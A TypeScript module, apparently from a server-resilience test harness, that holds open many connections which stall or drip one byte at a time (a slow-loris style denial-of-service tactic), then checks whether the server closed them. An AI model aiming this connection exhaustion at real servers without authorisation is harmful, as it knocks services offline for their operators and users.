import { setTimeout as pause } from 'node:timers/promises'
import { addressOf, AttackerConnection } from './connect.js'
import type { AttackOutcome, Tactic } from './tactic.js'

type IdleTactic = Extract<Tactic, { kind: 'idle' }>

/** How long the server may need to accept and close simultaneous connections, in milliseconds. */
const patienceMs = 20_000

/** Connections that begin something and stall, or continue a byte at a time. */
export async function attackByIdling(tactic: IdleTactic, outcome: AttackOutcome, endAt: number): Promise<void> {
  const { target, clients, prefix, drips, mostOpen, addresses } = tactic
  const connections = Array.from({ length: clients }, (_, client) => {
    const connection = new AttackerConnection(target, outcome, addressOf(client, addresses))
    connection.socket.resume()
    if (prefix !== '') connection.socket.write(prefix, 'latin1')
    return connection
  })
  while (Date.now() < endAt) {
    await pause(Math.min(500, Math.max(0, endAt - Date.now())))
    if (drips) for (const { socket } of connections) if (socket.writable) socket.write('x')
  }
  // only sending reveals that the system dropped a connection before the server accepted it
  for (const { socket } of connections) if (socket.writable) socket.write('G')
  const isOpen = () => outcome.connections - outcome.closed > mostOpen
  while (isOpen() && Date.now() < endAt + patienceMs) await pause(100)
  for (const connection of connections) connection.close()
}
